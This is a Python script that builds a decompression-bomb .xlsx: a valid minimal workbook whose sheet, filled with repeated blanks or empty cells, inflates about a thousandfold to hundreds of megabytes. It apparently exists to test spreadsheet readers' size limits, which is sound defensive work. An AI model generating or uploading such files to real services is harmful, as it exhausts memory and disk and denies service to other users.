#!/usr/bin/python3
"""Writes a small .xlsx whose first sheet inflates to hundreds of megabytes.

    make_hostile_workbook.py OUT.xlsx [--megabytes N] [--fill whitespace|cells]

The package holds the usual minimal parts ([Content_Types].xml, _rels/.rels, xl/workbook.xml,
xl/_rels/workbook.xml.rels, xl/worksheets/sheet1.xml), so a reader that opens it finds a valid
workbook. The sheet's <sheetData> holds one long run that deflate compresses about 1 000 to 1:
  whitespace  blanks between two ordinary rows (the default): well-formed, nothing out of range,
              only big, so a reader can refuse it by its size alone;
  cells       the same empty cell <c/> of row 5, over and over.
The sheet part is written through a stream in blocks of 1 MiB, so this script needs a few
megabytes of memory whatever N is. It prints the file's size and the sheet's inflated size.
"""
import argparse
import os
import zipfile

CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '</Types>')
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/>'
    '</Relationships>')
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>'
    '</workbook>')
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" '
    'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>'
    '</Relationships>')
SHEET_HEAD = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    '<sheetData>').encode()
SHEET_TAIL = b'</sheetData></worksheet>'

# Each fill: what comes before the run, the unit repeated, what comes after it.
FILLS = {
    'whitespace': (b'<row r="1"><c r="A1" t="inlineStr"><is><t>1</t></is></c></row>',
                   b' ',
                   b'<row r="5"><c r="A5" t="inlineStr"><is><t>1</t></is></c></row>'),
    'cells': (b'<row r="5">', b'<c/>', b'</row>'),
}
BLOCK = 1 << 20


def write_sheet(stream, megabytes, fill):
    before, unit, after = FILLS[fill]
    framing = len(SHEET_HEAD) + len(before) + len(after) + len(SHEET_TAIL)
    units = max(0, (megabytes * 1_000_000 - framing) // len(unit))
    stream.write(SHEET_HEAD + before)
    per_block = BLOCK // len(unit)
    block = unit * per_block
    whole, rest = divmod(units, per_block)
    for _ in range(whole):
        stream.write(block)
    stream.write(unit * rest)
    stream.write(after + SHEET_TAIL)
    return framing + units * len(unit)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split('\n')[0])
    parser.add_argument('out')
    parser.add_argument('--megabytes', type=int, default=390,
                        help='inflated size of the sheet part in MB (default 390)')
    parser.add_argument('--fill', choices=sorted(FILLS), default='whitespace')
    args = parser.parse_args()

    with zipfile.ZipFile(args.out, 'w', compression=zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        book.writestr('[Content_Types].xml', CONTENT_TYPES)
        book.writestr('_rels/.rels', ROOT_RELS)
        book.writestr('xl/workbook.xml', WORKBOOK)
        book.writestr('xl/_rels/workbook.xml.rels', WORKBOOK_RELS)
        # Below 2 GiB the sizes fit the ordinary headers; zipfile fills them in after the stream.
        with book.open('xl/worksheets/sheet1.xml', 'w') as sheet:
            inflated = write_sheet(sheet, args.megabytes, args.fill)
    print(os.path.getsize(args.out), inflated)


if __name__ == '__main__':
    main()
